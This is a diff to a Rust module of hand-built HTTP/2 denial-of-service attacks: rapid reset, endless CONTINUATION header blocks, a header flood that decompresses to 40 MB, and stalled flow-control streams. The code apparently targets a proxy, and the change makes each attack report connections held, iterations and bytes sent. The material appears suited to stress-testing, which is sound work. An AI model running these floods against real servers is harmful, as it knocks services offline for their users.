@@ -1,7 +1,7 @@
 //! Attacks by HTTP/2, frame by frame: no library would send these.
 
-use super::Pace;
 use super::http1::hold;
+use super::{Done, Pace};
 use std::io::{ErrorKind, Read, Write};
 use std::net::{SocketAddr, TcpStream};
 use std::time::Duration;
@@ -62,8 +62,8 @@ fn drain(s: &mut TcpStream) -> bool {
 }
 
 /// Opens and resets, on eight connections, each opened again when the proxy has had enough.
-pub(super) fn rapid_reset(to: SocketAddr, pace: &Pace) -> anyhow::Result<u64> {
-    let (block, mut streams) = (get("/"), 0);
+pub(super) fn rapid_reset(to: SocketAddr, pace: &Pace) -> anyhow::Result<Done> {
+    let (block, mut streams, mut bytes) = (get("/"), 0, 0);
     let mut lanes: Vec<Option<(TcpStream, u32)>> = (0..8).map(|_| None).collect();
     while !pace.over() {
         for lane in &mut lanes {
@@ -86,16 +86,17 @@ pub(super) fn rapid_reset(to: SocketAddr, pace: &Pace) -> anyhow::Result<u64> {
             }
             if s.write_all(&out).is_ok() && drain(s) {
                 streams += 100;
+                bytes += out.len() as u64;
             } else {
                 *lane = None;
             }
         }
     }
-    Ok(streams)
+    Ok(Done { held: lanes.iter().flatten().count(), times: streams, bytes })
 }
 
 /// A header block that never ends.
-pub(super) fn continuation(to: SocketAddr, pace: &Pace) -> anyhow::Result<u64> {
+pub(super) fn continuation(to: SocketAddr, pace: &Pace) -> anyhow::Result<Done> {
     // Literals without indexing: name `x`, value of 100 bytes.
     let field = [&[0, 1, b'x', 100][..], &[b'v'; 100]].concat();
     let mut payload = field.repeat(DATA_MAX / field.len());
@@ -113,12 +114,12 @@ pub(super) fn continuation(to: SocketAddr, pace: &Pace) -> anyhow::Result<u64> {
             frames += u64::from(alive);
         }
     }
-    Ok(frames)
+    Ok(Done { held: 0, times: frames, bytes: frames * (9 + DATA_MAX as u64) })
 }
 
 /// A million fields of a byte each, which decode to 40 MB.
-pub(super) fn million_headers(to: SocketAddr, pace: &Pace) -> anyhow::Result<u64> {
-    let (payload, mut requests) = (vec![0x90; DATA_MAX], 0); // 0x90: accept-encoding: gzip, deflate, indexed
+pub(super) fn million_headers(to: SocketAddr, pace: &Pace) -> anyhow::Result<Done> {
+    let (payload, mut requests, mut bytes) = (vec![0x90; DATA_MAX], 0, 0); // 0x90: accept-encoding: gzip, deflate, indexed
     while pace.wait(requests, 50.0) {
         let Ok(mut s) = connect(to) else { continue };
         let mut out = opening(&[]);
@@ -126,15 +127,15 @@ pub(super) fn million_headers(to: SocketAddr, pace: &Pace) -> anyhow::Result<u64
         for n in 0..=60 {
             frame(&mut out, CONTINUATION, if n == 60 { END_HEADERS } else { 0 }, 1, &payload);
         }
-        let _ = s.write_all(&out);
+        bytes += if s.write_all(&out).is_ok() { out.len() as u64 } else { 0 };
         drain(&mut s);
         requests += 1;
     }
-    Ok(requests)
+    Ok(Done { held: 0, times: requests, bytes })
 }
 
 /// Fifty connections with a hundred streams each: half of them grant no window, the others all of it and then do not read.
-pub(super) fn stalled(to: SocketAddr, pace: &Pace) -> anyhow::Result<u64> {
+pub(super) fn stalled(to: SocketAddr, pace: &Pace) -> anyhow::Result<Done> {
     let ask = |window: u32| {
         let mut out = opening(&[(4, window)]);
         if window > 0 {
@@ -151,5 +152,5 @@ pub(super) fn stalled(to: SocketAddr, pace: &Pace) -> anyhow::Result<u64> {
         turn.set(!turn.get());
         s.write_all(if turn.get() { &closed } else { &open })
     })?;
-    Ok(held * 100)
+    Ok(Done { held, times: 100 * held as u64, bytes: (held * (closed.len() + open.len()) / 2) as u64 })
 }
